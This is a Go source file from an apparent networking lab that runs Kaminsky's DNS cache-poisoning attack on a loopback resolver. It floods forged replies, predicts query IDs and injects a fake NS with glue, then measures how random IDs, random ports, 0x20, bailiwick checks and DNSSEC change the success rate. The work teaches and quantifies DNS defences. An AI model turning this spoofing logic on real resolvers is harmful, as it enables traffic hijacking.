package dnsexp

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"math"
	"math/rand/v2"
	"net"
	"net/netip"
	"os"
	"strings"
	"syscall"
	"time"

	"github.com/miekg/dns"
	"github.com/prometheus/client_golang/prometheus"

	"github.com/applayer/applayer/dns/labzone"
	"github.com/applayer/applayer/dns/resolver"
	"github.com/applayer/applayer/internal/plot"
	"github.com/applayer/applayer/internal/service"
	"github.com/applayer/applayer/lab"
	"github.com/applayer/applayer/lab/experiment"
	"github.com/applayer/applayer/lab/link"
)

// Poisoning is the dns-poisoning experiment: Kaminsky's attack on a lab
// resolver with its defences switched off and on one by one.
func Poisoning() experiment.Experiment {
	return experiment.Experiment{
		Name:    "dns-poisoning",
		Summary: "Kaminsky's attack: an attacker races forged replies for random names of umass.edu against its server; success rate and time-to-poison per combination of defences (random IDs, random ports, 0x20, bailiwick, DNSSEC) beside K/space",
		Run:     runPoisoning,
	}
}

// defences are the resolver's protections against forged replies that
// the lesson switches.
type defences struct {
	randomIDs, randomPorts, case0x20, bailiwick, dnssec bool
}

func (d defences) String() string {
	var on []string
	for _, f := range []struct {
		on   bool
		name string
	}{{d.randomIDs, "random IDs"}, {d.randomPorts, "random ports"}, {d.case0x20, "0x20"}, {d.bailiwick, "bailiwick"}, {d.dnssec, "DNSSEC"}} {
		if f.on {
			on = append(on, f.name)
		}
	}
	if len(on) == 0 {
		return "no defence"
	}
	if len(on) == 5 {
		return "every defence (the default resolver)"
	}
	return strings.Join(on, " + ")
}

// poisonCase is one combination of defences and how long to attack it.
type poisonCase struct {
	d     defences
	races int           // at most this many races
	box   time.Duration // and at most this long
}

const (
	// resolveWait bounds a client's wait for the resolver.
	resolveWait = 5 * time.Second
	// fixedQueryPort is the source port of every upstream query when
	// port randomisation is off (old resolvers used one port, often 53).
	fixedQueryPort = 20530
	// nameLetters is the letters of a race's name, xxxxx.umass.edu: the
	// bits 0x20 adds.
	nameLetters = 13
)

// poisonSetup is one run's settings.
type poisonSetup struct {
	window time.Duration // umass.edu's server's one-way delay: the attacker's window
	k      int           // forged replies at most per race
	cases  []poisonCase
}

func poisonSetupFor(quick bool) poisonSetup {
	none := defences{}
	ids := defences{randomIDs: true}
	s := poisonSetup{window: 100 * time.Millisecond, k: 4096}
	if quick {
		s.cases = []poisonCase{
			{none, 8, 20 * time.Second},
			{ids, 400, 30 * time.Second},
			{defences{bailiwick: true}, 6, 15 * time.Second},
			{defences{dnssec: true}, 6, 20 * time.Second},
		}
		return s
	}
	s.cases = []poisonCase{
		{none, 30, time.Minute},
		{defences{case0x20: true}, 60, time.Minute},
		{ids, 600, 2 * time.Minute},
		{defences{randomIDs: true, case0x20: true}, 100000, time.Minute},
		{defences{randomIDs: true, randomPorts: true}, 100000, time.Minute},
		{defences{bailiwick: true}, 30, time.Minute},
		{defences{dnssec: true}, 30, time.Minute},
		{defences{randomIDs: true, bailiwick: true}, 600, 2 * time.Minute},
		{defences{randomIDs: true, randomPorts: true, case0x20: true, bailiwick: true}, 100000, time.Minute},
		{defences{randomIDs: true, randomPorts: true, case0x20: true, bailiwick: true, dnssec: true}, 100000, time.Minute},
	}
	return s
}

// poisonLab is the running lab and the parts the experiment adds to it.
type poisonLab struct {
	env       experiment.Env
	set       poisonSetup
	run       *lab.Running
	block     netip.Prefix
	root      netip.Addr
	umass     netip.Addr
	resolver  netip.Addr
	att       *attacker
	portRange [2]int // the kernel's ephemeral ports: random source ports
	rng       *rand.Rand
}

func runPoisoning(ctx context.Context, env experiment.Env) (*experiment.Result, error) {
	s := poisonSetupFor(env.Quick)
	rng := rand.New(rand.NewPCG(env.Seed, 0x6b616d696e736b79))
	// A random block (not the seed's): runs side by side do not collide.
	block := netip.PrefixFrom(netip.AddrFrom4([4]byte{127, byte(100 + rand.IntN(100)), byte(rand.IntN(256)), 0}), 24)
	at := func(last byte) netip.Addr { a := block.Addr().As4(); a[3] = last; return netip.AddrFrom4(a) }
	p := &poisonLab{env: env, set: s, block: block, resolver: at(53), rng: rng, portRange: ephemeralPorts()}
	attAddr := at(66)
	zone := func(origin string, records ...string) json.RawMessage {
		b, _ := json.Marshal(map[string]any{"zones": []map[string]any{{"origin": origin, "sign": true, "records": records}}})
		return b
	}
	topo := &lab.Topology{}
	topo.Lab.Block = block.String()
	topo.Hosts = []lab.Host{
		{Name: "a.root-servers.net", Services: []lab.ServiceSpec{{Kind: "dns-authority", Config: zone(".")}}},
		{Name: "a.edu-servers.net", Services: []lab.ServiceSpec{{Kind: "dns-authority", Config: zone("edu", "evil NS ns.evil", "ns.evil A "+attAddr.String())}}},
		{Name: "dns.umass.edu", Link: link.Config{Delay: s.window}.String(), Services: []lab.ServiceSpec{{Kind: "dns-authority", Config: zone("umass.edu")}}},
	}
	run, stop, err := experiment.StartLab(ctx, env, topo)
	if err != nil {
		return nil, err
	}
	defer stop()
	p.run = run
	rh, _ := run.Plan.Lookup("a.root-servers.net")
	uh, _ := run.Plan.Lookup("dns.umass.edu")
	p.root, p.umass = rh.Addr, uh.Addr
	p.att, err = startAttacker(block, attAddr, run.Plan.Port(53), "evil.edu.", "umass.edu.")
	if err != nil {
		return nil, err
	}
	defer p.att.close()

	fmt.Fprintf(env.Stdout, "dns-poisoning: Kaminsky's attack on a lab resolver (%s). The attacker (%s, its own name server for evil.edu) asks the resolver\n", p.resolver, attAddr)
	fmt.Fprintf(env.Stdout, "for a random name xxxxx.umass.edu and at once sends up to %d forged replies \"from\" dns.umass.edu (%s): the name's answer, umass.edu NS dns.umass.edu\n", s.k, p.umass)
	fmt.Fprintf(env.Stdout, "and dns.umass.edu A %s (the attacker). The real server is %s away, so the forgeries race the real reply (NXDOMAIN) for %s.\n", attAddr, s.window, s.window)
	fmt.Fprintf(env.Stdout, "Poisoned = a client then asking the resolver for another name of umass.edu gets the attacker's address.\n")
	fmt.Fprintf(env.Stdout, "Formula: P(race won) = K / space, K the forgeries that reach the resolver's socket while its query is open (each a fresh guess;\n")
	fmt.Fprintf(env.Stdout, "summed race by race as -ln(1 - K/space), exact when K nears space; with random ports, the forgeries sent, an upper bound).\n")
	fmt.Fprintf(env.Stdout, "space = IDs (1 if sequential: the attacker reads the last one from a query to evil.edu; 2^16 if random) x source ports\n")
	fmt.Fprintf(env.Stdout, "(1 if fixed; %d if random) x case patterns (2^%d with 0x20).\n", p.portRange[1]-p.portRange[0]+1, nameLetters)
	fmt.Fprintf(env.Stdout, "A won race poisons unless the bailiwick/credibility checks drop the forged NS and glue, and a client gets SERVFAIL instead when the resolver validates (DNSSEC).\n")
	fmt.Fprintf(env.Stdout, "Intervals are Wilson 95%%; a combination that cannot fall in a lab run is time-boxed and reported as 0 in N, p < 3/N.\n\n")

	res := &experiment.Result{}
	var outs []caseOutcome
	for _, c := range s.cases {
		o, err := p.attack(ctx, c)
		if err != nil {
			return nil, fmt.Errorf("dns-poisoning: %s: %w", c.d, err)
		}
		outs = append(outs, o)
		fmt.Fprintf(env.Stdout, "%-40s %s\n", c.d.String()+":", o.summary())
		res.Rows = append(res.Rows, o.rows()...)
	}
	fmt.Fprintln(env.Stdout)
	if err := experiment.WriteTable(env.Stdout, res.Rows); err != nil {
		return nil, err
	}
	return res, poisonPlot(env, outs, res)
}

// caseOutcome is what attacking one combination gave.
type caseOutcome struct {
	c                poisonCase
	races, won       int
	poisoned         int
	servfail         int           // clients answered SERVFAIL after a won race (DNSSEC)
	arrived, sent    float64       // forged replies per race: at the resolver's socket; sent
	space            float64       // IDs x ports x case patterns
	elapsed          time.Duration // attacking, in all (victims' queries and cleaning included)
	racing           time.Duration // in races only: triggers, forgeries, the attacker's look at its zone
	firstPoison      time.Duration // racing until the first poisoning; 0: never
	exact, timeBoxed bool          // arrived is measured (fixed port), time box hit
	fromCache        int           // triggers answered without a query: not races
	expectedWins     float64       // the formula's, summed over the races
}

// predicted is the formula's chance that one race is won.
func (o caseOutcome) predicted() float64 { return o.expectedWins / float64(max(o.races, 1)) }

// guessWins is the formula's expected wins of one race in which k
// forgeries reached the resolver, each a fresh guess among the space's
// candidates not yet tried: the hazards summed, -ln(1 - k/space), which
// is k/space when k is much smaller than space; at most 1.
func guessWins(k, space float64) float64 {
	if k >= space {
		return 1
	}
	return math.Min(1, -math.Log1p(-k/space))
}

// predictedPoison is the chance one race poisons a client's answers.
func (o caseOutcome) predictedPoison() float64 {
	if o.c.d.bailiwick || o.c.d.dnssec {
		return 0
	}
	return o.predicted()
}

func (o caseOutcome) summary() string {
	s := fmt.Sprintf("%d races in %s, %d won, %d poisoned", o.races, o.elapsed.Round(100*time.Millisecond), o.won, o.poisoned)
	if o.c.d.dnssec {
		s += fmt.Sprintf(", %d clients got SERVFAIL", o.servfail)
	}
	kind := "reached the resolver's socket"
	k := o.arrived
	if !o.exact {
		kind, k = "sent", o.sent
	}
	s += fmt.Sprintf("; K = %.0f forged replies a race %s, space %.3g, P %.3g a race", k, kind, o.space, o.predicted())
	if o.firstPoison > 0 {
		s += fmt.Sprintf("; first poisoned after %s", o.firstPoison.Round(time.Millisecond))
	}
	if o.fromCache > 0 {
		s += fmt.Sprintf("; %d more triggers were answered from the cache without a query (a cached NSEC proof covers every name of umass.edu, RFC 8198): no race", o.fromCache)
	}
	if o.timeBoxed {
		s += " (time box)"
	}
	return s
}

func (o caseOutcome) rows() []experiment.Row {
	d := o.c.d
	p := float64(o.poisoned) / float64(max(o.races, 1))
	f := o.predictedPoison()
	lo, hi := wilson(o.poisoned, o.races, 1.96)
	rows := []experiment.Row{{
		Case:     fmt.Sprintf("%s: poisoned per race (%d of %d, 95%% CI %.2g-%.2g)", d, o.poisoned, o.races, lo, hi),
		Measured: p, Formula: f, Unit: "per race",
		Tolerance: 1e-9, Slack: ciSlack(o.poisoned, o.races, f),
	}}
	if d.bailiwick || d.dnssec {
		// The race itself is still won as the formula says: what stops
		// the poisoning is the check after it.
		w := float64(o.won) / float64(max(o.races, 1))
		rows = append(rows, experiment.Row{
			Case:     fmt.Sprintf("%s: forged reply won the race (%d of %d)", d, o.won, o.races),
			Measured: w, Formula: o.predicted(), Unit: "per race", Tolerance: 1e-9, Slack: ciSlack(o.won, o.races, o.predicted()),
		})
	}
	if d.dnssec && o.won > 0 {
		rows = append(rows, experiment.Row{
			Case:     fmt.Sprintf("%s: a won race gave clients SERVFAIL (%d of %d)", d, o.servfail, o.won),
			Measured: float64(o.servfail) / float64(o.won), Formula: 1, Unit: "per won race", Tolerance: 1e-9, Slack: ciSlack(o.servfail, o.won, 1),
		})
	}
	if f > 0 {
		// Time to poison: the racing time per poisoning (a mean over
		// every poisoning, steadier than the first one's time alone).
		perRace := o.racing.Seconds() / float64(max(o.races, 1))
		ttp, note := o.racing.Seconds()/float64(max(o.poisoned, 1)), "racing time per poisoning"
		if o.poisoned == 0 {
			note = "none poisoned in this racing time"
		}
		rows = append(rows, experiment.Row{
			Case:     fmt.Sprintf("%s: time to poison (%s; formula: %.3f s a race / P)", d, note, perRace),
			Measured: ttp, Formula: perRace / f, Unit: "s",
		})
	}
	return rows
}

// wilson is the Wilson score interval of k successes in n trials.
func wilson(k, n int, z float64) (lo, hi float64) {
	if n == 0 {
		return 0, 1
	}
	p, nf := float64(k)/float64(n), float64(n)
	den := 1 + z*z/nf
	mid := (p + z*z/(2*nf)) / den
	half := z * math.Sqrt(p*(1-p)/nf+z*z/(4*nf*nf)) / den
	return math.Max(0, mid-half), math.Min(1, mid+half)
}

// ciSlack is how far the formula may be from k/n and still be inside the
// 99.9% Wilson interval (the experiment's check; 95% is printed).
func ciSlack(k, n int, formula float64) float64 {
	lo, hi := wilson(k, n, 3.29)
	p := float64(k) / float64(max(n, 1))
	if k == 0 && formula == 0 {
		return 0
	}
	if formula >= p {
		return hi - p
	}
	return p - lo
}

// attack runs the races of one combination against a fresh resolver.
func (p *poisonLab) attack(ctx context.Context, c poisonCase) (caseOutcome, error) {
	o := caseOutcome{c: c, space: 1, exact: !c.d.randomPorts}
	if c.d.randomIDs {
		o.space *= 65536
	}
	if c.d.randomPorts {
		o.space *= float64(p.portRange[1] - p.portRange[0] + 1)
	}
	if c.d.case0x20 {
		o.space *= 1 << nameLetters
	}
	srv, reg, err := p.startResolver(ctx, c.d)
	if err != nil {
		return o, err
	}
	defer srv.Shutdown(context.WithoutCancel(ctx))
	raddr := netip.AddrPortFrom(p.resolver, uint16(p.run.Plan.Port(53)))
	if err := p.warm(ctx, raddr); err != nil {
		return o, err
	}
	// Forged replies per race, for the report: over the lost races when
	// there are any (a won race stops at the winning reply). The formula
	// sums each race's own count instead (guessWins), which is unbiased.
	var arrived, sent [2]float64 // [lost, won]
	start := time.Now()
	for o.races < c.races && time.Since(start) < c.box {
		mis, up := counter(reg, "applayer_dns_resolver_mismatched_replies_total"), counter(reg, "applayer_dns_resolver_upstream_queries_total")
		t0 := time.Now()
		r, err := p.race(ctx, raddr, c.d)
		if err != nil {
			return o, err
		}
		o.racing += time.Since(t0)
		if counter(reg, "applayer_dns_resolver_upstream_queries_total")-up-r.learnQueries == 0 {
			// Answered from the cache (a cached NSEC proof covers the
			// name, RFC 8198): no query, no race.
			o.fromCache++
			continue
		}
		o.races++
		w := 0
		if r.won {
			o.won++
			w = 1
		}
		k := counter(reg, "applayer_dns_resolver_mismatched_replies_total") - mis + float64(w)
		sent[w] += float64(r.sent)
		arrived[w] += k
		if !o.exact {
			k = float64(r.sent) // an upper bound: almost none reach a socket
		}
		o.expectedWins += guessWins(k, o.space)
		if !r.won && !r.servfail {
			continue
		}
		// The victim: a client asks for another name of umass.edu.
		ans, err := askResolver(ctx, raddr, p.name("www")+".umass.edu.")
		if err != nil {
			return o, fmt.Errorf("victim's query: %w", err)
		}
		switch {
		case answersWith(ans, p.att.addr):
			o.poisoned++
			if o.firstPoison == 0 {
				o.firstPoison = o.racing
			}
		case ans.Rcode == dns.RcodeServerFailure && r.servfail:
			o.servfail++
		}
		if answersWith(ans, p.att.addr) || ans.Rcode == dns.RcodeServerFailure {
			// Clean the cache for the next race, as an operator would.
			srv.Flush(".")
			if err := p.warm(ctx, raddr); err != nil {
				return o, err
			}
		}
	}
	o.elapsed = time.Since(start)
	o.timeBoxed = o.races+o.fromCache < c.races
	if lost := o.races - o.won; lost > 0 {
		n := float64(lost)
		o.arrived, o.sent = arrived[0]/n, sent[0]/n
	} else {
		n := float64(max(o.races, 1))
		o.arrived, o.sent = arrived[1]/n, sent[1]/n
	}
	return o, nil
}

// raceResult is one race's outcome.
type raceResult struct {
	won          bool // the forged reply was taken (its answer, or SERVFAIL for it)
	servfail     bool // the trigger's client got SERVFAIL (DNSSEC)
	sent         int
	learnQueries float64 // upstream queries of the attacker's look at its own zone
}

// race sends one trigger and its forged replies.
func (p *poisonLab) race(ctx context.Context, raddr netip.AddrPort, d defences) (raceResult, error) {
	var r raceResult
	name := p.name("") + ".umass.edu."
	f, err := newForgery(name, p.att.addr)
	if err != nil {
		return r, err
	}
	// What the attacker knows: the last ID and port the resolver used
	// towards it (one query to evil.edu) and whether they are guessable.
	var nextID uint16
	if !d.randomIDs || !d.randomPorts {
		if _, err := askResolver(ctx, raddr, p.name("id")+".evil.edu."); err != nil {
			return r, fmt.Errorf("the attacker's look at its zone: %w", err)
		}
		r.learnQueries = 1
		nextID = uint16(p.att.lastID.Load()) + 1
	}
	port := uint16(p.att.lastPort.Load())
	type reply struct {
		m   *dns.Msg
		err error
	}
	done := make(chan reply, 1)
	go func() {
		m, err := askResolver(ctx, raddr, name)
		done <- reply{m, err}
	}()
	pattern0, id0 := p.rng.Uint64(), uint16(p.rng.Uint32())
	var ans reply
flood:
	for k := 0; k < p.set.k; k++ {
		select {
		case ans = <-done:
			break flood
		default:
		}
		// A known ID is sent again and again (with the next few, in case
		// the resolver sent other queries meanwhile): the first copies
		// may arrive before the resolver's query is out.
		id, pattern := nextID+uint16(k%4), uint64(0)
		switch {
		case !d.randomIDs && d.case0x20:
			id, pattern = nextID, pattern0+uint64(k) // every case pattern in turn
		case d.randomIDs:
			id = id0 + uint16(k) // distinct guesses
			if d.case0x20 {
				pattern = p.rng.Uint64()
			}
		}
		to := port
		if d.randomPorts {
			to = uint16(p.portRange[0] + p.rng.IntN(p.portRange[1]-p.portRange[0]+1))
		}
		if err := p.att.spoof(f.guess(id, pattern), p.umass, netip.AddrPortFrom(p.resolver, to)); err != nil {
			return r, err
		}
		r.sent++
	}
	if ans.m == nil && ans.err == nil {
		ans = <-done
	}
	if ans.err != nil {
		return r, fmt.Errorf("trigger %s: %w", name, ans.err)
	}
	// With DNSSEC a forged answer that won comes back as SERVFAIL (the
	// real answer is a signed NXDOMAIN).
	r.servfail = d.dnssec && ans.m.Rcode == dns.RcodeServerFailure
	r.won = answersWith(ans.m, p.att.addr) || r.servfail
	return r, nil
}

// warm makes the resolver know umass.edu's delegation (and evil.edu's),
// as a resolver in use would.
func (p *poisonLab) warm(ctx context.Context, raddr netip.AddrPort) error {
	for _, n := range []string{"dns.umass.edu.", p.name("warm") + ".evil.edu."} {
		m, err := askResolver(ctx, raddr, n)
		if err != nil {
			return fmt.Errorf("warming the resolver with %s: %w", n, err)
		}
		if m.Rcode != dns.RcodeSuccess || len(m.Answer) == 0 {
			return fmt.Errorf("warming the resolver with %s: %s with %d answers", n, dns.RcodeToString[m.Rcode], len(m.Answer))
		}
	}
	return nil
}

// name is a random label of five letters after prefix.
func (p *poisonLab) name(prefix string) string {
	b := []byte(prefix)
	for range 5 {
		b = append(b, byte('a'+p.rng.IntN(26)))
	}
	return string(b)
}

// startResolver starts the lab's resolver with the defences of d: the
// lab-only hazards for IDs, ports and bailiwick, the ordinary settings
// for 0x20 and validation.
func (p *poisonLab) startResolver(ctx context.Context, d defences) (*resolver.Server, *prometheus.Registry, error) {
	// The query crosses dns.umass.edu's link; replies, forged or not,
	// come straight back, so the window is the link's one-way delay.
	down := p.run.Link("dns.umass.edu").Down
	shaped := func(next service.Dialer) service.Dialer { return linkDialer{next: next, pipe: down, to: p.umass} }
	cfg := resolver.Config{
		Listen:       netip.AddrPortFrom(p.resolver, uint16(p.run.Plan.Port(53))).String(),
		RootHints:    []string{p.root.String()},
		UpstreamPort: p.run.Plan.Port(53),
		NoPrefetch:   true,
		No0x20:       !d.case0x20,
	}
	if d.dnssec {
		cfg.TrustAnchorFile = labzone.TrustAnchorFile(p.run.Plan)
	}
	if h := (&resolver.Hazards{Lab: p.run.Plan, SequentialIDs: !d.randomIDs, NoBailiwick: !d.bailiwick}); !d.randomPorts || h.SequentialIDs || h.NoBailiwick {
		if !d.randomPorts {
			h.FixedPort = fixedQueryPort
			h.DialFrom = func(ctx context.Context, local netip.AddrPort, address string) (net.Conn, error) {
				return dialFrom(ctx, shaped(&net.Dialer{LocalAddr: net.UDPAddrFromAddrPort(local)}), address)
			}
		}
		cfg.Hazards = h
	}
	reg := prometheus.NewRegistry()
	deps := p.env.Deps
	deps.Metrics = reg
	deps.Dialer = shaped(sourceDialer{p.resolver})
	srv, err := resolver.New(cfg, deps)
	if err != nil {
		return nil, nil, err
	}
	if err := srv.Start(ctx); err != nil {
		return nil, nil, err
	}
	return srv, reg, nil
}

// dialFrom dials from a fixed port, waiting (briefly) while the last
// query's socket still holds it.
func dialFrom(ctx context.Context, d service.Dialer, address string) (net.Conn, error) {
	for try := 0; ; try++ {
		c, err := d.DialContext(ctx, "udp", address)
		if err == nil || !errors.Is(err, syscall.EADDRINUSE) || try == 200 {
			return c, err
		}
		time.Sleep(time.Millisecond)
	}
}

// linkDialer sends the datagrams of the UDP sockets it dials to the
// address to across a lab link's pipe (its delay, loss and rate); what
// they read comes straight from the kernel: forged replies never cross
// that link, and the resolver reads them as fast as it can.
type linkDialer struct {
	next service.Dialer
	pipe *link.Pipe
	to   netip.Addr
}

func (d linkDialer) DialContext(ctx context.Context, network, address string) (net.Conn, error) {
	c, err := d.next.DialContext(ctx, network, address)
	if err != nil || !strings.HasPrefix(network, "udp") {
		return c, err
	}
	if ap, ok := addrPort(c.RemoteAddr()); ok && ap.Addr() == d.to {
		return overLink{Conn: c, pipe: d.pipe}, nil
	}
	return c, nil
}

// overLink is a datagram socket whose writes cross a pipe.
type overLink struct {
	net.Conn
	pipe *link.Pipe
}

func (c overLink) Write(b []byte) (int, error) {
	v := c.pipe.Offer(time.Now(), len(b), true)
	if v.Drop == "" {
		cp := bytes.Clone(b)
		time.AfterFunc(time.Until(v.At), func() { c.Conn.Write(cp) })
	}
	return len(b), nil
}

// sourceDialer dials from the resolver's lab address.
type sourceDialer struct{ ip netip.Addr }

func (s sourceDialer) DialContext(ctx context.Context, network, address string) (net.Conn, error) {
	d := net.Dialer{Timeout: resolveWait}
	switch network {
	case "udp", "udp4":
		d.LocalAddr = &net.UDPAddr{IP: s.ip.AsSlice()}
	case "tcp", "tcp4":
		d.LocalAddr = &net.TCPAddr{IP: s.ip.AsSlice()}
	}
	return d.DialContext(ctx, network, address)
}

func addrPort(a net.Addr) (netip.AddrPort, bool) {
	switch a := a.(type) {
	case *net.UDPAddr:
		ap := a.AddrPort()
		return netip.AddrPortFrom(ap.Addr().Unmap(), ap.Port()), true
	case *net.TCPAddr:
		ap := a.AddrPort()
		return netip.AddrPortFrom(ap.Addr().Unmap(), ap.Port()), true
	}
	return netip.AddrPort{}, false
}

// answersWith reports whether m answers with the address a.
func answersWith(m *dns.Msg, a netip.Addr) bool {
	if m == nil || m.Rcode != dns.RcodeSuccess {
		return false
	}
	for _, rr := range m.Answer {
		if x, ok := rr.(*dns.A); ok && x.A.Equal(a.AsSlice()) {
			return true
		}
	}
	return false
}

// counter reads a counter of reg (0 when absent).
func counter(reg *prometheus.Registry, name string) float64 {
	mfs, _ := reg.Gather()
	var v float64
	for _, mf := range mfs {
		if mf.GetName() == name {
			for _, m := range mf.GetMetric() {
				v += m.GetCounter().GetValue()
			}
		}
	}
	return v
}

// ephemeralPorts is the kernel's range of source ports it picks from
// (Linux's file; elsewhere the IANA range).
func ephemeralPorts() [2]int {
	b, err := os.ReadFile("/proc/sys/net/ipv4/ip_local_port_range")
	var lo, hi int
	if err == nil {
		if n, _ := fmt.Sscan(string(b), &lo, &hi); n == 2 && lo > 0 && hi >= lo {
			return [2]int{lo, hi}
		}
	}
	return [2]int{49152, 65535}
}

// poisonPlot draws, per combination, the formula's chance that a race is
// won beside the measured chances that a race was won and that it
// poisoned (or the 95% upper bound when no race was won), on a log scale.
func poisonPlot(env experiment.Env, outs []caseOutcome, res *experiment.Result) error {
	ch := plot.Chart{Title: "Kaminsky's attack: chance per race, per combination of defences",
		XLabel: "combination, in the table's order (1 = no defence ... last = every defence)", YLabel: "log10 probability per race"}
	form := plot.Series{Name: "formula: race won, K/space", Dashed: true, Points: true}
	won := plot.Series{Name: "measured: race won", Points: true}
	poisoned := plot.Series{Name: "measured: poisoned (none with bailiwick or DNSSEC)", Points: true}
	bound := plot.Series{Name: "no race won: 95% upper bound", Points: true}
	for i, o := range outs {
		x := float64(i + 1)
		if f := o.predicted(); f > 0 {
			form.X, form.Y = append(form.X, x), append(form.Y, math.Log10(f))
		}
		n := float64(max(o.races, 1))
		if o.won > 0 {
			won.X, won.Y = append(won.X, x), append(won.Y, math.Log10(float64(o.won)/n))
		} else if o.races >= 10 {
			_, hi := wilson(0, o.races, 1.96)
			bound.X, bound.Y = append(bound.X, x), append(bound.Y, math.Log10(hi))
		}
		if o.poisoned > 0 {
			poisoned.X, poisoned.Y = append(poisoned.X, x), append(poisoned.Y, math.Log10(float64(o.poisoned)/n))
		}
	}
	for _, s := range []plot.Series{form, won, poisoned, bound} {
		if len(s.X) > 0 {
			ch.Series = append(ch.Series, s)
		}
	}
	res.Plots = []string{env.Path("dns-poisoning.png"), env.Path("dns-poisoning.svg")}
	return ch.Save(res.Plots...)
}
